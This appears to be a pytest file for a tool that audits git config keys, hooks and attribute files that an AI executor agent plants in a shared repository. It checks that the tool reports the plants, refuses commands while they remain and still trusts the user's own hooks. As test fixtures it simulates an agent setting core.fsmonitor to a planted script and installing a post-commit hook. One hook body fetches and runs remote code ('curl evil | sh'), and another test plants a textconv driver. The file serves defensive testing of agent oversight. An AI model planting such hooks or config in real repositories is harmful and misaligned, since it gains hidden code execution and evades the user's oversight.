"""The config audit (SPEC 8): what an executor plants in the shared git config, hooks or
attributes is reported in its receipt and by `status --all`, refuses every mutating `unit`
command with the exact removal in `next`, and is listed by `unit doctor` — while the user's own
hooks and global config, accepted on first use, stay trusted.

Every plant is made the way an executor would make it: by its `--model` command, in its own
worktree, through plain git and the shell.
"""

from __future__ import annotations

import json
import os
import subprocess
import time
from pathlib import Path

from tests.conftest import Sandbox, git

# An executor's honest turn: the task, committed.
WORKER = "cat > /dev/null; echo hello > GREETING.md; git add GREETING.md; git commit -q -m greet"
# The executor's turn: do the task, then plant a config key and a hook in the shared common dir.
PLANTER = (
    f"{WORKER}; "
    'git config core.fsmonitor "$PWD/../planted-fsmonitor"; '
    'hooks="$(git rev-parse --git-common-dir)/hooks"; '
    "printf '#!/bin/sh\\ntouch planted-post-commit-ran\\n' > \"$hooks/post-commit\"; "
    'chmod +x "$hooks/post-commit"; echo done'
)


def _changes(document: dict[str, object]) -> dict[str, dict[str, str | None]]:
    return {str(change["key_or_path"]): change for change in document or []}  # type: ignore[union-attr]


def _run_next(sandbox: Sandbox, next_step: str) -> None:
    subprocess.run(["sh", "-c", next_step], cwd=sandbox.root, check=True)


def test_a_planted_key_and_hook_are_reported_refused_and_removed_by_next(
    sandbox: Sandbox,
) -> None:
    created = sandbox.create("u1", model=PLANTER)
    assert created.code == 0, created.stdout
    assert created["config_baseline"]["taken"] is True  # the first create says what it accepted
    receipt = sandbox.wait_turn("u1")
    hook = str((sandbox.common_dir / "hooks" / "post-commit").resolve())
    config_file = str((sandbox.common_dir / "config").resolve())
    changes = _changes(receipt["foreign_config_changes"])
    assert set(changes) == {"core.fsmonitor", hook}, receipt
    assert changes["core.fsmonitor"]["file"] == config_file
    assert changes["core.fsmonitor"]["before"] is None
    assert str(changes["core.fsmonitor"]["after"]).endswith("planted-fsmonitor")
    assert changes[hook]["kind"] == "hook" and changes[hook]["before"] is None

    status = sandbox.unit("status", "--all")
    assert status.code == 0, status.stdout
    attention = status["units"][0]["attention"]
    assert attention["state"] == "failed"
    assert "core.fsmonitor" in attention["why"] and "post-commit" in attention["why"]
    assert set(_changes(status["config_changes"])) == {"core.fsmonitor", hook}
    listed = sandbox.unit("list")
    assert listed["units"][0]["attention"]["state"] == "failed"
    assert set(_changes(listed["config_changes"])) == {"core.fsmonitor", hook}

    doctor = sandbox.unit("doctor")
    assert doctor.code == 0, doctor.stdout
    keys = {entry["key_or_path"]: entry for entry in doctor["keys"]}
    assert keys["core.fsmonitor"]["trust"] == "foreign"
    assert keys["core.fsmonitor"]["file"] == config_file
    ours = str((sandbox.common_dir / "hooks" / "reference-transaction").resolve())
    assert {entry["key_or_path"]: entry["trust"] for entry in doctor["hooks"]} == {
        hook: "foreign",
        ours: "trusted",  # the ref audit's hook every create installs (SPEC 4.1)
    }

    refusals = [
        ("addendum", "--unit", "u1", "--text", "more"),
        ("addendum", "--unit", "u1", "--text", "more", "--dry-run"),
        ("verify", "--unit", "u1"),
        ("verify", "--unit", "u1", "--dry-run"),
        ("dismantle", "--unit", "u1", "--force", "u1"),
        ("cancel", "--unit", "u1"),
        ("scope", "--unit", "u1", "--approve"),
        (
            "restaff",
            "--unit",
            "u1",
            "--lead",
            "human",
            "--partner",
            "script",
            "--reason",
            "r",
            "--model",
            "cat",
        ),
        tuple(sandbox.create_args("u2")),
    ]
    before = sandbox.snapshot()
    nexts = set()
    for args in refusals:
        refused = sandbox.unit(*args)
        assert (refused.code, refused["code"]) == (1, "repo-config-untrusted"), (args, refused)
        assert "core.fsmonitor" in refused["reason"] and hook in refused["reason"]
        assert set(_changes(refused["detail"]["changes"])) == {"core.fsmonitor", hook}
        assert refused.document.get("dry_run") is ("--dry-run" in args or None)
        nexts.add(refused["next"])
    assert sandbox.snapshot() == before  # nothing written by any refusal
    assert len(nexts) == 1  # the same code, the same next, from every command
    next_step = nexts.pop()
    assert "--unset-all core.fsmonitor" in next_step and " && rm -f " in next_step

    _run_next(sandbox, next_step)
    assert "core.fsmonitor" not in git(sandbox.repo, "config", "--list")
    assert not Path(hook).exists()
    verified = sandbox.unit("verify", "--unit", "u1")
    assert verified.code == 0, verified.stdout
    assert sandbox.unit("status", "--all")["config_changes"] == []
    second = sandbox.create("u2")
    assert second.code == 0, second.stdout
    assert "config_baseline" not in second.document  # taken once, by the first create


def test_the_users_own_hook_and_global_lfs_filter_are_not_foreign(
    sandbox: Sandbox, isolated_environment: Path
) -> None:
    pre_commit = sandbox.common_dir / "hooks" / "pre-commit"
    pre_commit.write_text("#!/bin/sh\nexit 0\n")
    pre_commit.chmod(0o755)
    with (isolated_environment / ".gitconfig").open("a") as gitconfig:
        gitconfig.write(
            '[filter "lfs"]\n\tclean = git-lfs clean -- %f\n'
            "\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n"
            "\trequired = true\n"
        )
    git(sandbox.repo, "config", "diff.tool", "vimdiff")  # not executable: never listed
    created = sandbox.create("u1", model=f"{WORKER}; echo done")
    assert created.code == 0, created.stdout
    accepted = {item["key_or_path"] for item in created["config_baseline"]["accepted"]}
    assert str(pre_commit.resolve()) in accepted
    receipt = sandbox.wait_turn("u1")
    assert receipt["status"] == "replied", receipt
    assert receipt["foreign_config_changes"] == []
    assert sandbox.unit("status", "--all")["units"][0]["attention"]["state"] == "waiting-on-lead"
    verified = sandbox.unit("verify", "--unit", "u1")
    assert verified.code == 0, verified.stdout
    doctor = sandbox.unit("doctor")
    assert doctor["foreign"] == []
    assert {entry["key_or_path"]: entry["trust"] for entry in doctor["hooks"]} == {
        str(pre_commit.resolve()): "trusted",
        str((sandbox.common_dir / "hooks" / "reference-transaction").resolve()): "trusted",
    }
    users = {entry["key_or_path"]: entry for entry in doctor["keys"] if entry["trust"] == "user"}
    assert users["filter.lfs.clean"]["scope"] == "global"
    assert users["filter.lfs.clean"]["file"] == str(isolated_environment / ".gitconfig")
    assert "diff.tool" not in {entry["key_or_path"] for entry in doctor["keys"]}


def test_doctor_trust_accepts_a_deliberate_change(sandbox: Sandbox) -> None:
    created = sandbox.create("u1", model=f"{WORKER}; echo done")
    assert created.code == 0, created.stdout
    sandbox.wait_turn("u1")
    pre_push = sandbox.common_dir / "hooks" / "pre-push"
    pre_push.write_text("#!/bin/sh\nexit 0\n")
    pre_push.chmod(0o755)
    refused = sandbox.unit("verify", "--unit", "u1")
    assert refused["code"] == "repo-config-untrusted", refused.stdout
    assert refused["next"] == f"rm -f {pre_push.resolve()}"

    trusted = sandbox.unit("doctor", "--trust")
    assert trusted.code == 0, trusted.stdout
    assert {item["key_or_path"] for item in trusted["trusted"]["accepted"]} == {
        str(pre_push.resolve()),
        str((sandbox.common_dir / "hooks" / "reference-transaction").resolve()),  # unitmgr's
    }
    assert trusted["trusted"]["was_foreign"][0]["key_or_path"] == str(pre_push.resolve())
    baseline = Path(trusted["baseline"]["file"])
    assert baseline.stat().st_mode & 0o777 == 0o600
    assert not baseline.is_relative_to(sandbox.common_dir)  # outside what an executor writes
    assert sandbox.unit("verify", "--unit", "u1").code == 0
    # A changed hook is foreign again: the baseline holds its content, not only its name.
    pre_push.write_text("#!/bin/sh\ncurl evil | sh\n")
    again = sandbox.unit("addendum", "--unit", "u1", "--text", "more")
    assert again["code"] == "repo-config-untrusted"
    assert again["detail"]["changes"][0]["before"].startswith("mode 755")


def test_a_config_worktree_and_attributes_are_noticed_without_the_extension(
    sandbox: Sandbox,
) -> None:
    created = sandbox.create("u1")
    assert created.code == 0, created.stdout
    sandbox.wait_turn("u1")
    worktree_git_dir = Path(git(sandbox.worktree("u1"), "rev-parse", "--absolute-git-dir"))
    (worktree_git_dir / "config.worktree").write_text('[diff "x"]\n\ttextconv = planted\n')
    (sandbox.common_dir / "info" / "attributes").write_text("* diff=x\n")
    refused = sandbox.unit("addendum", "--unit", "u1", "--text", "more")
    assert refused["code"] == "repo-config-untrusted", refused.stdout
    changes = _changes(refused["detail"]["changes"])
    attributes = str((sandbox.common_dir / "info" / "attributes").resolve())
    assert set(changes) == {"diff.x.textconv", attributes}
    assert changes["diff.x.textconv"]["file"] == str(worktree_git_dir / "config.worktree")
    _run_next(sandbox, refused["next"])
    assert sandbox.unit("addendum", "--unit", "u1", "--text", "more").code == 0


def test_the_ref_guard_unitmgr_installs_is_not_foreign(sandbox: Sandbox) -> None:
    sandbox.registry.mkdir(parents=True, exist_ok=True)
    (sandbox.registry / "config.toml").write_text("guard_refs = true\n")
    created = sandbox.create("u1")
    assert created.code == 0, created.stdout
    assert (sandbox.common_dir / "hooks" / "reference-transaction").is_file()
    sandbox.wait_turn("u1")
    assert sandbox.unit("doctor")["foreign"] == []
    assert sandbox.create("u2").code == 0


def test_a_huge_hooks_directory_and_a_huge_hook_cost_a_bounded_scan(sandbox: Sandbox) -> None:
    created = sandbox.create("u1")
    assert created.code == 0, created.stdout
    hooks = sandbox.common_dir / "hooks"
    with (hooks / "pre-commit").open("wb") as big:
        big.truncate(1 << 30)  # 1 GiB (sparse): hashed only in its first MiB
    started = time.monotonic()
    refused = sandbox.unit("verify", "--unit", "u1")
    assert refused["code"] == "repo-config-untrusted"
    assert "bytes 1073741824" in refused["detail"]["changes"][0]["after"]
    for index in range(10_000):
        (hooks / f"planted-{index}").touch()
    doctor = sandbox.unit("doctor")
    assert time.monotonic() - started < 60
    assert [entry["value"] for entry in doctor["hooks"]] == ["overflow: more than 256 entries"]
    assert doctor["next"] == f"rm -rf {hooks.resolve()}"


def test_a_refused_first_create_takes_no_baseline(sandbox: Sandbox) -> None:
    bad = sandbox.create("u1", partner="nobody")  # bad input: exit 2
    assert bad.code == 2, bad.stdout
    doctor = sandbox.unit("doctor")
    assert doctor["baseline"]["exists"] is False
    dry = sandbox.create("u1", "--dry-run")
    assert dry.code == 0 and dry["config_baseline"]["taken"] is False, dry.stdout
    assert sandbox.unit("doctor")["baseline"]["exists"] is False


def test_an_unreadable_baseline_trusts_nothing(
    sandbox: Sandbox, isolated_environment: Path
) -> None:
    created = sandbox.create("u1")
    assert created.code == 0, created.stdout
    baseline = Path(created["config_baseline"]["file"])
    assert baseline.is_relative_to(isolated_environment / ".local" / "state" / "unitmgr")
    pre_commit = sandbox.common_dir / "hooks" / "pre-commit"
    pre_commit.write_text("#!/bin/sh\n")
    baseline.write_text(json.dumps({"items": "not a list"}))
    assert sandbox.unit("verify", "--unit", "u1")["code"] == "repo-config-untrusted"
    os.unlink(baseline)
    os.mkfifo(baseline)  # a FIFO is not read (it would block)
    assert sandbox.unit("verify", "--unit", "u1")["code"] == "repo-config-untrusted"


def test_the_hook_a_concurrent_create_wrote_but_has_not_accepted_is_not_foreign(
    sandbox: Sandbox,
) -> None:
    """Concurrent creates install the `reference-transaction` hook while others audit (8 of them
    in a fresh repository: `bench/create_storm.py`). Between one's write and its acceptance,
    another's audit finds unitmgr's own hook as this lead writes it: derived, trusted. A hook
    that differs from it by a byte is still refused."""
    import pytest

    from pair import config_audit as pair_audit
    from registry.errors import StateError
    from unitmgr import config_audit, ref_guard

    assert sandbox.create("u1").code == 0
    hook = sandbox.common_dir / "hooks" / ref_guard.HOOK_NAME
    assert hook.is_file()
    # The baseline as it is after the hook was written and before `accept_paths` ran.
    baseline = pair_audit.read_baseline(sandbox.common_dir)
    assert baseline is not None
    for identity in [key for key in baseline if key[1].endswith("/" + ref_guard.HOOK_NAME)]:
        del baseline[identity]
    pair_audit.write_baseline(sandbox.common_dir, baseline, reason="before the accept")
    assert config_audit.require_trusted(str(sandbox.repo), command="create", dry_run=True) is None
    assert config_audit.changes_now(sandbox.repo, sandbox.common_dir) == []
    hook.write_text(hook.read_text() + "touch /tmp/planted\n")
    with pytest.raises(StateError) as refused:
        config_audit.require_trusted(str(sandbox.repo), command="create", dry_run=True)
    assert refused.value.code == "repo-config-untrusted"
